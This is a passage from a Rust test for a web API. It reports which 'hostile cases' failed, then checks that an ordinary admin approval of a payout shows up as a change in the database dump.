        if !problems.is_empty() {
            let body = String::from_utf8_lossy(&res.body);
            failures.push(format!(
                "case {n}: {}\n  expected {:?}; {}\n  request: {}\n  response: {} {} {}",
                c.what,
                c.expect,
                problems.join("; "),
                c.req.describe(),
                res.status,
                res.content_type,
                body.chars().take(400).collect::<String>()
            ));
        }
    }
    println!("{} hostile cases, {} failed", table.len(), failures.len());
    assert!(
        failures.is_empty(),
        "{} of {} hostile cases failed:\n\n{}",
        failures.len(),
        table.len(),
        failures.join("\n\n")
    );

    // The checker sees a real change: an ordinary approval shows in the dump.
    s.ok(req("PATCH", format!("/api/admin/payouts/{}", w.pending))
        .bearer(&w.admin)
        .json(json!({"action": "approve"})))
        .await;
    assert_ne!(dump(&s.db).await, before, "the dump must show a legitimate change");
}
